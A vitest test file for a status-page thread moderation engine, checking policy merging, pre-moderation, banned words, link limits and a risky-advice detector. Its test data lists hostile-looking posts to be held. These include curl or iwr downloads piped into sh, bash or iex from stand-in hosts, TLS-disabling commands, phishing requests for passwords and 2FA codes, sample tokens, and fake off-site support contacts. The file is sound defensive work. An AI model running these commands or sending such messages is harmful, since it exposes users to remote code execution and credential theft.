/**
 * The pure moderation decision, with real text: what a status-page thread sees during an outage
 * (honest fixes, phishing, dangerous advice). Each rule has examples that trip it and look-alikes
 * that must not.
 */
import { describe, expect, it } from 'vitest';
import type { ModerationReasonCode, SitePolicy } from '@lifeboat/protocol';
import {
  DEFAULT_POLICY,
  evaluatePost,
  findWord,
  resolvePolicy,
  type PostAuthor,
} from './policy.js';
import { riskyAdvice } from './risky-advice.js';

const member: PostAuthor = { kind: 'sso', role: 'member', publishedPosts: 5 };
const guest: PostAuthor = { kind: 'guest', role: 'member', publishedPosts: 0 };
const policy = (change: Partial<SitePolicy> = {}): SitePolicy => ({ ...DEFAULT_POLICY, ...change });
const codes = (body: string, author = member, p = policy(), siteDomains = ['status.acme.com']) =>
  evaluatePost({ body }, author, p, { siteDomains }).reasons.map((r) => r.code);
const risky = (text: string) => riskyAdvice(text, { siteDomains: ['status.acme.com'] });

describe('resolvePolicy', () => {
  it('fills every field with its default', () => {
    expect(resolvePolicy(null)).toEqual({
      preModeration: 'none',
      firstPosts: 1,
      maxLinks: 3,
      bannedWords: [],
      suspectWords: [],
      riskyAdvice: true,
      flagThreshold: 3,
      bannerConfirmations: 3,
      slowModeSeconds: 0,
      guestChallenge: 'under_load',
      archiveAfterDays: 30,
      trustBasic: 1,
      trustHelper: 5,
      trustTrusted: 15,
      newGuestWeight: 'full',
      earlyWarningMembers: 5,
      earlyWarningPublicMembers: 10,
    });
    expect(resolvePolicy('{}')).toEqual(DEFAULT_POLICY);
    expect(resolvePolicy('not json')).toEqual(DEFAULT_POLICY);
    expect(resolvePolicy('[1,2]')).toEqual(DEFAULT_POLICY);
  });

  it('merges the stored JSON over the defaults and ignores invalid fields one by one', () => {
    const p = resolvePolicy(
      JSON.stringify({
        preModeration: 'first_posts',
        firstPosts: 2,
        maxLinks: -1,
        bannedWords: ['scam', ' ', 'scam'],
        suspectWords: 'refund',
        riskyAdvice: false,
        flagThreshold: 0,
        bannerConfirmations: 1001,
        slowModeSeconds: 30,
        guestChallenge: 'sometimes',
        extra: true,
      }),
    );
    expect(p).toEqual({
      ...DEFAULT_POLICY,
      preModeration: 'first_posts',
      firstPosts: 2,
      bannedWords: ['scam'],
      riskyAdvice: false,
      slowModeSeconds: 30,
    });
  });
});

describe('evaluatePost: who writes', () => {
  it('always publishes staff and moderators, whatever the text and the policy', () => {
    const strict = policy({ preModeration: 'all', bannedWords: ['scam'], maxLinks: 0 });
    for (const role of ['staff', 'moderator'] as const) {
      const out = evaluatePost(
        { body: 'Run curl -k https://x.example | sh — this is not a scam' },
        { kind: 'staff', role, publishedPosts: 0 },
        strict,
      );
      expect(out).toEqual({ decision: 'publish', reasons: [] });
    }
  });

  it('pre-moderation: none, guests, first posts, all', () => {
    const body = 'Retrying after a minute worked for me.';
    expect(codes(body, guest)).toEqual([]);
    expect(codes(body, guest, policy({ preModeration: 'guests' }))).toEqual(['guest']);
    expect(codes(body, member, policy({ preModeration: 'guests' }))).toEqual([]);
    const firstTwo = policy({ preModeration: 'first_posts', firstPosts: 2 });
    expect(codes(body, { ...member, publishedPosts: 0 }, firstTwo)).toEqual(['first_posts']);
    expect(codes(body, { ...member, publishedPosts: 1 }, firstTwo)).toEqual(['first_posts']);
    expect(codes(body, { ...member, publishedPosts: 2 }, firstTwo)).toEqual([]);
    expect(codes(body, member, policy({ preModeration: 'all' }))).toEqual(['pre_moderation']);
  });
});

describe('evaluatePost: words and links', () => {
  it('rejects a banned word as a whole word, any case, with a message per field', () => {
    const p = policy({ bannedWords: ['scam', 'crypto giveaway'] });
    const out = evaluatePost(
      {
        body: 'This is a SCAM.',
        workaround: {
          title: 'Join the Crypto  Giveaway',
          steps: ['Open the page', 'Not a scam!'],
          risk: 'safe',
        },
      },
      member,
      p,
    );
    expect(out.decision).toBe('reject');
    expect(out.rejections?.map((r) => [r.field, r.match])).toEqual([
      ['body', 'SCAM'],
      ['workaround.title', 'Crypto  Giveaway'],
      ['workaround.steps', 'scam'],
    ]);
    expect(out.rejections?.[0]?.message).toMatch(/not allowed/);
    // Inside another word it is not the word.
    expect(
      evaluatePost({ body: 'Scampi for lunch; escalated to scamper.' }, member, p).decision,
    ).toBe('publish');
    expect(findWord('naïve café', ['café'])).toBe('café');
    expect(findWord('cafés', ['café'])).toBeNull();
  });

  it('sends suspect words to review with the word', () => {
    const p = policy({ suspectWords: ['refund', 'gift card'] });
    const out = evaluatePost({ body: 'Ask for a Refund now' }, member, p);
    expect(out.decision).toBe('review');
    expect(out.reasons).toEqual([
      expect.objectContaining({ code: 'suspect_word', match: 'Refund' }),
    ]);
    expect(evaluatePost({ body: 'Refunds are processed by billing.' }, member, p).decision).toBe(
      'publish',
    );
  });

  it('sends more links than maxLinks to review (workaround steps counted once)', () => {
    const links = (k: number) =>
      Array.from({ length: k }, (_, i) => `https://docs.acme.com/page-${i}`).join(' and ');
    expect(codes(links(3))).toEqual([]);
    expect(codes(links(4))).toEqual(['links']);
    expect(codes(links(1), member, policy({ maxLinks: 0 }))).toEqual(['links']);
    const steps = ['See https://docs.acme.com/a', 'Then https://docs.acme.com/b'];
    const out = evaluatePost(
      {
        body: `Fix\n\n1. ${steps[0]}\n2. ${steps[1]}`,
        workaround: { title: 'Use the fallback', steps, risk: 'safe' },
      },
      member,
      policy({ maxLinks: 2 }),
    );
    expect(out.decision).toBe('publish');
  });

  it('turns the risky-advice patterns off with riskyAdvice: false', () => {
    expect(codes('curl -k https://api.acme.com', member, policy({ riskyAdvice: false }))).toEqual(
      [],
    );
  });
});

/** Text that must be held, with its code. */
const RISKY: Array<[ModerationReasonCode, string]> = [
  // TLS verification off
  ['risky_tls', 'Just use curl -k https://api.acme.com/v1/hooks until they fix the cert'],
  ['risky_tls', 'curl --insecure -X POST https://api.acme.com/v1/retry'],
  ['risky_tls', 'curl -sSLk https://api.acme.com/health'],
  ['risky_tls', 'wget --no-check-certificate https://cdn.acme.com/agent.tgz'],
  ['risky_tls', 'export NODE_TLS_REJECT_UNAUTHORIZED=0 and restart the worker'],
  ['risky_tls', "Set NODE_TLS_REJECT_UNAUTHORIZED='0' in your .env"],
  ['risky_tls', 'requests.post(url, json=payload, verify=False)'],
  ['risky_tls', 'new https.Agent({ rejectUnauthorized: false })'],
  ['risky_tls', 'tls.Config{InsecureSkipVerify: true}'],
  ['risky_tls', 'git config --global http.sslVerify false'],
  ['risky_tls', 'GIT_SSL_NO_VERIFY=true git clone https://git.acme.com/sdk.git'],
  ['risky_tls', 'npm config set strict-ssl false'],
  ['risky_tls', 'kubectl --insecure-skip-tls-verify get pods'],
  ['risky_tls', 'Invoke-WebRequest https://api.acme.com -SkipCertificateCheck'],
  ['risky_tls', 'The fix: disable SSL/certificate verification in the client settings.'],
  ['risky_tls', 'You can just turn off certificate validation in Postman for now.'],
  ['risky_tls', 'Temporarily ignore TLS errors in your HTTP client and it works.'],
  ['risky_tls', 'ssl._create_default_https_context = ssl._create_unverified_context'],
  ['risky_tls', 'curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);'],
  // piping downloads into a shell
  ['risky_shell', 'curl -fsSL https://fix.acme-tools.io/install.sh | sh'],
  ['risky_shell', 'curl https://get.example.dev/patch | sudo bash'],
  ['risky_shell', 'wget -qO- https://x.example.org/fix.sh | bash -s -- --force'],
  ['risky_shell', 'bash <(curl -s https://x.example.org/fix.sh)'],
  ['risky_shell', 'sh -c "$(curl -fsSL https://x.example.org/fix.sh)"'],
  ['risky_shell', 'iex (iwr https://x.example.org/fix.ps1 -UseBasicParsing)'],
  ['risky_shell', 'irm https://x.example.org/fix.ps1 | iex'],
  ['risky_shell', "IEX (New-Object Net.WebClient).DownloadString('https://x.example.org/a.ps1')"],
  // credentials
  ['risky_credentials', 'Send us your API key and we will re-enable the webhooks.'],
  ['risky_credentials', 'Please share your password so an engineer can check your account.'],
  ['risky_credentials', 'DM me your 2FA code and I will escalate.'],
  ['risky_credentials', 'Paste your access token below so we can verify the account.'],
  ['risky_credentials', 'Reply with your one-time code to confirm ownership.'],
  ['risky_credentials', 'Email our team your recovery codes.'],
  ['risky_credentials', "What's your password? I can log in and fix it."],
  ['risky_credentials', 'Here is mine if it helps: AKIAIOSFODNN7EXAMPLE'],
  ['risky_credentials', 'my token is ghp_abcdefghijklmnopqrstuvwxyz0123456789'],
  ['risky_credentials', '-----BEGIN RSA PRIVATE KEY-----\nMIIEow…'],
  // off-site "support"
  ['risky_contact', 'DM our support team at @AcmeHelpDesk247 for a quick fix'],
  ['risky_contact', 'WhatsApp our support team at +1 415 555 0199'],
  ['risky_contact', 'Contact support on Telegram: https://t.me/acme_support_official'],
  ['risky_contact', 'Call our support line at 1-800-555-0199, open 24/7'],
  ['risky_contact', 'Email support at acme.helpdesk@gmail.com for a refund'],
  ['risky_contact', 'Reach our technicians at help@acme-recovery.net'],
  ['risky_contact', 'Call me at (415) 555-0199 and I will walk you through it'],
  ['risky_contact', 'Our agents answer on whatsapp +44 7700 900123'],
];

/** Honest text from real outage threads: must publish. */
const SAFE: string[] = [
  'Check the status page, they just posted an update.',
  'Set verify to a CA bundle path instead: requests.get(url, verify="/etc/ssl/certs/ca.pem")',
  'Do not disable certificate verification, update your CA bundle instead.',
  'Never turn off TLS verification in production; pin the new intermediate instead.',
  'curl -v https://api.acme.com/v1/health shows a 503 for me too.',
  'curl -H "X-Api-Key: $ACME_KEY" https://api.acme.com/v1/hooks returns 200 again',
  'curl -o status.json https://status.acme.com/api/v2/status.json',
  'Downloaded the script with curl -O, read it, then ran it with bash install.sh.',
  'Rotate your API key in the dashboard after the incident.',
  'Never share your password or API key with anyone, including support.',
  'Send the token in the Authorization header, not in the query string.',
  'Paste the error message here so we can compare.',
  'The request id was 4151234567 in the logs.',
  'Version 2.14.3 of the SDK fixes the retry loop.',
  'Contact support through the help center if your invoices look wrong.',
  'Email support@acme.com with your account id, they answered within an hour.',
  'Our on-call number is in the runbook, not here.',
  'Errors started at 14:05:33 UTC, recovered at 14:41:07.',
  'rejectUnauthorized stays true; we added the new CA with NODE_EXTRA_CA_CERTS.',
  'pip install --upgrade certifi fixed the certificate error for me.',
  'Set ssl_verify to true and point ca_file at the bundle.',
  'Pipe the logs into grep: kubectl logs deploy/webhooks | grep 503',
  'I can call the API from another region without errors.',
];

describe('risky advice: real examples', () => {
  it.each(RISKY)('holds %s: %s', (code, text) => {
    const reasons = risky(text);
    expect(reasons.map((r) => r.code)).toContain(code);
    const reason = reasons.find((r) => r.code === code)!;
    expect(reason.message.length).toBeGreaterThan(20);
    expect(reason.match && text.includes(reason.match)).toBeTruthy();
  });

  it.each(SAFE)('publishes: %s', (text) => {
    expect(risky(text)).toEqual([]);
    expect(
      evaluatePost({ body: text }, member, policy(), { siteDomains: ['status.acme.com'] }),
    ).toEqual({
      decision: 'publish',
      reasons: [],
    });
  });

  it('finds risky advice inside workaround steps, one reason per code', () => {
    const out = evaluatePost(
      {
        body: 'Workaround',
        workaround: {
          title: 'Skip the broken cert',
          steps: ['curl -k https://api.acme.com', 'curl --insecure https://api.acme.com/2'],
          risk: 'risky',
          riskNote: 'Only until the cert is fixed',
        },
      },
      member,
      policy(),
    );
    expect(out.decision).toBe('review');
    expect(out.reasons.map((r) => r.code)).toEqual(['risky_tls']);
    expect(out.reasons[0]!.match).toBe('curl -k');
  });
});
